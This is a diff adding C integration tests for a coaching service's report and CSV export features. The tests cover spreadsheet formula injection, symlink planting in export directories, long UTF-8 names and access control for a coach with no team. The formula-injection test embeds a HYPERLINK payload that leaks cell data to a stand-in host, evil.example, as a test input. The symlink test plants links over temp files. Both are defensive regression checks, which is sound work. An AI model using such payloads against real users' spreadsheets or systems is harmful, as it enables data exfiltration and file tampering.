@@ -94,10 +94,12 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <time.h>
+#include <unistd.h>
 
 #include "harness.h"
 
 #include "coachbox/store.h"
+#include "coachbox/team.h"
 
 #define PW "correct-horse-battery-1"
 #define Q3 "from=2026-07-01&to=2026-09-30"
@@ -619,16 +621,19 @@ static int group_teardown(void **state)
     if (G.started) {
         cbt_server_stop(&G.srv);
     }
-    static const char *const files[] = {"imd.csv",    "lsoa.csv", "bad1.csv", "bad2.csv",
-                                        "bad3.csv",   "bad4.csv", "bad5.csv", "pop.csv",
-                                        "badpop.csv", "q.csv"};
+    static const char *const files[] = {
+        "imd.csv", "lsoa.csv",   "bad1.csv", "bad2.csv", "bad3.csv",    "bad4.csv", "bad5.csv",
+        "pop.csv", "badpop.csv", "q.csv",    "q19.csv",  "q19.csv.tmp", "victim"};
     char path[700];
     for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
         snprintf(path, sizeof(path), "%s-%s", G.data, files[i]);
         remove(path);
     }
-    snprintf(path, sizeof(path), "%s-extract", G.data);
-    cbt_rmtree(path);
+    static const char *const dirs[] = {"extract", "extract-f19", "extract-f22"};
+    for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
+        snprintf(path, sizeof(path), "%s-%s", G.data, dirs[i]);
+        cbt_rmtree(path);
+    }
     cbt_rmtree(G.data);
     return 0;
 }
@@ -1562,6 +1567,268 @@ static void test_role_before_params(void **state)
     expect_error(LENA, "/api/reports/data-quality?weeks=0", 400, "weeks");
 }
 
+/* ---------------------------------- review findings (run last: they add data) */
+
+/* Run one SQL statement with an optional text ?1 on the data directory's store. */
+static void store_exec(const char *sql, const char *arg)
+{
+    struct cb_store *s;
+    struct cb_conn *c;
+    sqlite3_stmt *st;
+    assert_int_equal(cb_store_open(G.data, &s), 0);
+    assert_int_equal(cb_store_conn(s, &c), 0);
+    assert_int_equal(sqlite3_prepare_v2(cb_conn_db(c), sql, -1, &st, NULL), SQLITE_OK);
+    if (arg) {
+        sqlite3_bind_text(st, 1, arg, -1, SQLITE_TRANSIENT);
+    }
+    assert_int_equal(sqlite3_step(st), SQLITE_DONE);
+    sqlite3_finalize(st);
+    cb_store_close(s);
+}
+
+/*
+ * 1 if every cell of the CSV text that a spreadsheet would run as a formula
+ * (starting with = + - @ TAB or CR) is a plain number; else 0 with the first
+ * such cell in bad.
+ */
+static int csv_cells_safe(const char *csv, char *bad, size_t badlen)
+{
+    const char *p = csv;
+    while (*p) {
+        char cell[1024];
+        size_t n = 0;
+        if (*p == '"') {
+            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
+                if (*p == '"') {
+                    p++; /* a doubled quote */
+                }
+                if (n + 1 < sizeof(cell)) {
+                    cell[n++] = *p;
+                }
+            }
+            p += *p == '"';
+        } else {
+            for (; *p && *p != ',' && *p != '\r' && *p != '\n'; p++) {
+                if (n + 1 < sizeof(cell)) {
+                    cell[n++] = *p;
+                }
+            }
+        }
+        cell[n] = '\0';
+        if (strchr("=+-@\t\r", cell[0]) && cell[0]) {
+            char *end;
+            (void)strtod(cell, &end);
+            if (end == cell || *end) {
+                snprintf(bad, badlen, "%s", cell);
+                return 0;
+            }
+        }
+        p += *p == ',' ? 1 : (*p == '\r' && p[1] == '\n') ? 2 : (*p != '\0');
+    }
+    return 1;
+}
+
+/*
+ * Finding F19: every text cell of the extract and of the quarterly return is
+ * guarded, not only free text: an e-mail address, a phone number and an
+ * admin-chosen team id get the leading apostrophe too.
+ */
+static void test_csv_formula_guard(void **state)
+{
+    (void)state;
+    static const char evil[] = "=HYPERLINK(\"http://evil.example/@x.co?\"&B2&C2)";
+    char id[40];
+    post(ALICE, "/api/participants",
+         json_pack("{s:s, s:s, s:s, s:s, s:s}", "given_name", "Fenella", "family_name", "Formula",
+                   "date_of_birth", "1980-04-04", "email", evil, "phone", "+447700900123"),
+         id);
+    struct cb_store *s;
+    struct cb_conn *c;
+    struct cb_field_error fe;
+    memset(&fe, 0, sizeof(fe));
+    assert_int_equal(cb_store_open(G.data, &s), 0);
+    assert_int_equal(cb_store_conn(s, &c), 0);
+    assert_int_equal(cb_team_add(c, "-dash", "Dash", &fe), CB_OK);
+    cb_store_close(s);
+
+    char dir[600], out[2048], path[700];
+    snprintf(dir, sizeof(dir), "%s-extract-f19", G.data);
+    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
+    int st = cbt_run(args, NULL, out, sizeof(out));
+    if (st != 0) {
+        fail_msg("extract: %d %s", st, out);
+    }
+    snprintf(path, sizeof(path), "%s/participants.csv", dir);
+    char *p = read_file(path, NULL);
+    assert_non_null(p);
+    if (!strstr(p, ",'+447700900123,\"'=HYPERLINK(\"\"http://evil.example/@x.co?\"\"&B2&C2)\",")) {
+        fail_msg("participants.csv: the phone and e-mail are not guarded:\n%s", p);
+    }
+    free(p);
+    snprintf(path, sizeof(path), "%s/teams.csv", dir);
+    p = read_file(path, NULL);
+    assert_non_null(p);
+    assert_non_null(strstr(p, "\r\n'-dash,Dash,"));
+    free(p);
+    static const char *const files[] = {
+        "teams",      "venues",     "users",        "participants", "consents",   "encounters",
+        "measures",   "goals",      "goal_reviews", "referrals",    "programmes", "group_sessions",
+        "enrolments", "attendance", "checkins",     "imd",          "population", "manifest"};
+    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+        char bad[1024];
+        snprintf(path, sizeof(path), "%s/%s.csv", dir, files[i]);
+        p = read_file(path, NULL);
+        assert_non_null(p);
+        if (!csv_cells_safe(p, bad, sizeof(bad))) {
+            fail_msg("%s.csv: the cell [%s] would run as a formula", files[i], bad);
+        }
+        free(p);
+    }
+    cbt_rmtree(dir);
+
+    struct cbt_resp r;
+    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3&team=-dash", NULL, &r);
+    expect_status(&r, 200, "quarterly -dash");
+    if (!strstr(r.body, "\r\n2026Q3,2026-07-01,2026-09-30,'-dash,total,all,0,0\r\n")) {
+        fail_msg("quarterly CSV: the team id is not guarded:\n%s", r.body);
+    }
+    cbt_resp_free(&r);
+}
+
+/*
+ * Finding F20: the people behind a figure keep a name of 100 characters whole
+ * (100 two-byte characters; "Z" and 99 four-byte ones, 397 bytes, which a
+ * 101-byte buffer cut mid-character and so dropped the person), and the list
+ * is as long as count.
+ */
+static void test_records_long_names(void **state)
+{
+    (void)state;
+    char given[201], family[401] = "Z";
+    for (int i = 0; i < 100; i++) {
+        memcpy(given + 2 * i, "\xc3\xa9", 3); /* é */
+    }
+    for (int i = 0; i < 99; i++) {
+        memcpy(family + 1 + 4 * i, "\xf0\x9d\x92\x9c", 5); /* U+1D49C, script A */
+    }
+    person(ALICE, 0, given, family, "1970-02-02", json_object());
+    contact(ALICE, 0, "one_to_one", "2025-03-10T10:00:00Z", NULL, NULL);
+    json_t *j = get_ok(MGR, "/api/reports/outcomes/records?from=2025-03-01&to=2025-03-31"
+                            "&figure=people_seen");
+    expect_at(j, "count", "1", "long names");
+    expect_at(j, "truncated", "false", "long names");
+    json_t *items = json_object_get(j, "items");
+    if (json_array_size(items) != 1) {
+        fail_msg("long names: count 1 but %zu items", json_array_size(items));
+    }
+    json_t *it = json_array_get(items, 0);
+    assert_string_equal(json_string_value(json_object_get(it, "given_name")), given);
+    assert_string_equal(json_string_value(json_object_get(it, "family_name")), family);
+    assert_string_equal(json_string_value(json_object_get(it, "id")), G.p[0]);
+    json_decref(j);
+}
+
+/*
+ * Finding F22: the exports do not follow a symbolic link planted in the output
+ * directory (NAME.csv.tmp, manifest.csv, or the quarterly FILE.tmp): the file it
+ * points at is untouched and the export is written whole.
+ */
+static void test_export_planted_links(void **state)
+{
+    (void)state;
+    char dir[600], victim[600], link[700], out[2048];
+    snprintf(dir, sizeof(dir), "%s-extract-f22", G.data);
+    snprintf(victim, sizeof(victim), "%s-victim", G.data);
+    FILE *f = fopen(victim, "wb");
+    assert_non_null(f);
+    fputs("precious\n", f);
+    fclose(f);
+    assert_int_equal(mkdir(dir, 0700), 0);
+    static const char *const planted[] = {"participants.csv.tmp", "manifest.csv.tmp",
+                                          "manifest.csv", "teams.csv"};
+    for (size_t i = 0; i < sizeof(planted) / sizeof(planted[0]); i++) {
+        snprintf(link, sizeof(link), "%s/%s", dir, planted[i]);
+        assert_int_equal(symlink(victim, link), 0);
+    }
+    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
+    int st = cbt_run(args, NULL, out, sizeof(out));
+    if (st != 0 || !strstr(out, "wrote 17 tables")) {
+        fail_msg("extract with planted links: %d %s", st, out);
+    }
+    char *v = read_file(victim, NULL);
+    assert_non_null(v);
+    assert_string_equal(v, "precious\n");
+    free(v);
+    struct stat sb;
+    static const char *const written[] = {"participants.csv", "manifest.csv", "teams.csv"};
+    for (size_t i = 0; i < sizeof(written) / sizeof(written[0]); i++) {
+        snprintf(link, sizeof(link), "%s/%s", dir, written[i]);
+        assert_int_equal(lstat(link, &sb), 0);
+        assert_true(S_ISREG(sb.st_mode));
+        assert_int_equal(sb.st_mode & 0777, 0600);
+    }
+    for (size_t i = 0; i < 2; i++) {
+        snprintf(link, sizeof(link), "%s/%s", dir, planted[i]);
+        assert_int_equal(lstat(link, &sb), -1); /* renamed into place */
+    }
+    snprintf(link, sizeof(link), "%s/participants.csv", dir);
+    char *p = read_file(link, NULL);
+    assert_non_null(p);
+    assert_true(strncmp(p, "id,given_name,family_name,", 26) == 0);
+    assert_non_null(strstr(p, ",Able,1990-10-01,9990000018,BL9 0EJ,prestwich,"));
+    free(p);
+    snprintf(link, sizeof(link), "%s/manifest.csv", dir);
+    p = read_file(link, NULL);
+    assert_non_null(p);
+    assert_true(strncmp(p, "file,rows,extracted_at,schema_version\r\n", 39) == 0);
+    assert_non_null(strstr(p, "\r\nparticipants.csv,"));
+    free(p);
+    cbt_rmtree(dir);
+
+    /* the quarterly return's --out FILE: FILE.tmp planted */
+    char qpath[600];
+    snprintf(qpath, sizeof(qpath), "%s-q19.csv", G.data);
+    snprintf(link, sizeof(link), "%s.tmp", qpath);
+    assert_int_equal(symlink(victim, link), 0);
+    const char *qargs[] = {"export", "quarterly", "--data", G.data, "--quarter",
+                           "2026Q3", "--out",     qpath,    NULL};
+    st = cbt_run(qargs, NULL, out, sizeof(out));
+    if (st != 0) {
+        fail_msg("quarterly with a planted link: %d %s", st, out);
+    }
+    v = read_file(victim, NULL);
+    assert_non_null(v);
+    assert_string_equal(v, "precious\n");
+    free(v);
+    p = read_file(qpath, NULL);
+    assert_non_null(p);
+    assert_non_null(strstr(p, "\r\n2026Q3,2026-07-01,2026-09-30,all,total,all,8,5\r\n"));
+    free(p);
+    assert_int_equal(lstat(link, &sb), -1);
+    remove(qpath);
+    remove(victim);
+}
+
+/*
+ * Finding F23: a coach whose account has no team (made directly in the store:
+ * the account commands refuse it) is refused the team reports, rather than
+ * being given every team.
+ */
+static void test_teamless_coach_refused(void **state)
+{
+    (void)state;
+    store_exec("UPDATE users SET team = NULL WHERE username = ?1", "bob");
+    expect_error(BOB, "/api/reports/outcomes?" Q3, 403, "team");
+    expect_error(BOB, "/api/reports/reach?" Q3 "&split=sex", 403, "team");
+    expect_error(BOB, "/api/reports/data-quality", 403, "team");
+    expect_error(BOB, "/api/reports/venues?" Q3, 403, "team");
+    expect_error(BOB, "/api/reports/outcomes?" Q3 "&team=radcliffe", 403, "team");
+    store_exec("UPDATE users SET team = 'radcliffe' WHERE username = ?1", "bob");
+    json_t *j = get_ok(BOB, "/api/reports/outcomes?" Q3);
+    expect_at(j, "filters.team", "\"radcliffe\"", "bob with his team back");
+    json_decref(j);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1580,6 +1847,10 @@ int main(void)
         cmocka_unit_test(test_venues),
         cmocka_unit_test(test_access_and_params),
         cmocka_unit_test(test_role_before_params),
+        cmocka_unit_test(test_csv_formula_guard),
+        cmocka_unit_test(test_records_long_names),
+        cmocka_unit_test(test_export_planted_links),
+        cmocka_unit_test(test_teamless_coach_refused),
     };
     return cmocka_run_group_tests_name("it_reports", tests, group_setup, group_teardown);
 }
